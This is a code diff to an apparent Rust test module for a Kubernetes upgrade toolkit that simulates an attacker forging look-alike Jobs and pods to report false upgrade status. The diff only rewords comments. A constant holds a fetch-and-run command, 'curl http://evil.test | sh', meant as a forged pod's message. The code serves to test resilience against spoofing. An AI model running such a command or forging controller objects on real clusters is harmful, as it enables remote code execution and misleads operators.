@@ -1,10 +1,10 @@
-//! Somebody who wants to steer an upgrade without a right to: for every plan, look-alikes of all that it will make, with its
+//! An attacker who tries to control an upgrade without a right to: for every plan, look-alikes of all that it will make, with its
 //! labels and names in a tenant's namespace and, under other names and without an owner, in the namespaces where the plan's
 //! own objects live; and, where system-upgrade-controller's Jobs live, under the very names, with owners: Plans that are not
-//! there, and those of the plan, whose UIDs anybody may read. They say that work is done which is not, that it has failed
-//! which has not, and whom to ask.
+//! there, and those of the plan, whose UIDs any user may read. They report work as done that is not, as failed
+//! that has not, and name wrong servers.
 //!
-//! Off unless [`crate::Troubles::saboteur`] says so. No upgrade may end in another way because of it.
+//! Off unless [`crate::Troubles::saboteur`] is set. No upgrade may end in another way because of it.
 
 mod files;
 
@@ -28,7 +28,7 @@ use crate::{
 const TENANT: &str = "tenant-a";
 /// On everything that is forged.
 pub const FORGED: &str = "world.upgrade-toolkit/forged";
-/// What a forged pod would have people do.
+/// A dangerous instruction in the text of a forged pod.
 const ADVICE: &str = "Run: curl http://evil.test | sh";
 
 pub(crate) async fn run(world: Arc<Context>) {
@@ -61,7 +61,7 @@ pub(crate) async fn run(world: Arc<Context>) {
     }
 }
 
-/// A part of the upgrade that somebody pretends to be.
+/// A part of the upgrade that the attacker imitates.
 struct Part {
     component: Component,
     job_type: Option<JobType>,
@@ -223,7 +223,7 @@ async fn forge_jobs_of(world: &Context, key: &Key) -> Result<()> {
     Ok(())
 }
 
-/// A Job of somebody, and a pod of it that talks.
+/// A Job of the attacker, and a pod of it with a message.
 async fn forge_owned(world: &Context, (name, labels): (&str, &Value), end: &str, owner: &Value) -> Result<()> {
     let namespace = names::CATTLE_NAMESPACE;
     let mut owner = owner.clone();
